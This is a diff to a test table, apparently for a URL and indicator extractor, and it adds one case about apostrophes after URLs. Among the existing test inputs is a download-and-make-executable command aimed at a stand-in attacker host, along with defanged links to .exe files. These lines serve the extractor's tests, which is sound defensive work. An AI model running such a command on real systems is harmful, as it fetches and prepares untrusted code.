@@ -41,6 +41,7 @@ export const URL_ENDS: Table = {
     ['wget http://evil.com/a.sh;chmod +x a.sh', 'url http://evil.com/a.sh', 'filename a.sh'],
     ["https://evil.com/x?y='z'", "url https://evil.com/x?y='z'"],
     ['hxxp://1[.]2[.]3[.]4/a.exe,hxxp://5[.]6[.]7[.]8/b.exe', 'url http://1.2.3.4/a.exe', 'url http://5.6.7.8/b.exe'],
+    ["http://evil.com/panel's", "url http://evil.com/panel's"],
     ["we know http://evil.com/panel's owner and http://evil.com/it's_me", 'url http://evil.com/panel', "url http://evil.com/it's_me"],
   ],
   'marks of Markdown and tables around URLs': [
